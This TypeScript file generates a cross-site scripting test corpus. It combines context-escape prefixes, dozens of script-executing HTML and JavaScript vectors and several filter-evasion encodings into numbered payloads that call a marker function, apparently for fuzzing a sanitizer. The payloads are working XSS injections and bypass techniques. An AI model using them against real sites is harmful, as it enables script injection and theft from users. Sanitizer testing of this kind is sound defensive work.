/** Ways out of where a text may stand: text, attribute, script, comment, and several at once. */
const WAYS_OUT = [
  ...['', "'>", '">', `'">`, '>', '-->', ']]>', '*/'],
  ...['</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</p></div></main>'],
  ...['\\">', '\\u0022\\u003e', '&quot;>', '"/>', '`>'],
]

/** Markup and words that run `call` somewhere. */
const VECTORS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<body onload=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<b style="animation:x" onanimationstart=${call}>x</b>`,
  (call) => `<math><mtext><img src=x onerror=${call}></mtext></math>`,
  (call) => `<link rel=stylesheet href="data:text/css,x" onload=${call}>`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form><button autofocus onfocus=${call} formaction="javascript:${call}">x</button>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<x tabindex=1 autofocus onfocus=${call}>x</x>`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `" autofocus onfocus="${call}`,
  (call) => `' autofocus onfocus='${call}`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `";${call};//`,
  (call) => `';${call};//`,
  (call) => `\`;${call};//`,
  (call) => `$`.concat(`{${call}}`),
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `"},"x":${call},"y":{"`,
]

const entities = (text: string): string =>
  text.replace(/[<>"'&]/g, (letter) => `&#${letter.charCodeAt(0)};`)

/** The same as somebody writes it who hopes that a filter looks for another form. */
const FORMS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\/?\w+)/g, (tag) => tag.toUpperCase()),
  (text) => text.replace(/ (?=\w+=)/g, '/'),
  (text) => text.replace(/ (?=\w+=)/g, '\n\t'),
  (text) => text.replaceAll('<', '<<'),
  (text) => text.replaceAll('<', '<!--><'),
  entities,
  (text) => entities(entities(text)),
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
]

/** Every way out with every vector in every form; each calls `sprung` with a number of its own. */
export const scriptPayloads = (): string[] => {
  const texts = WAYS_OUT.flatMap((wayOut) =>
    VECTORS.flatMap((vector) => FORMS.map((form) => form(wayOut + vector('sprung(NUMBER)')))),
  )

  return [...new Set(texts)].map((text, at) => text.replaceAll(/NUMBER/gi, String(at)))
}
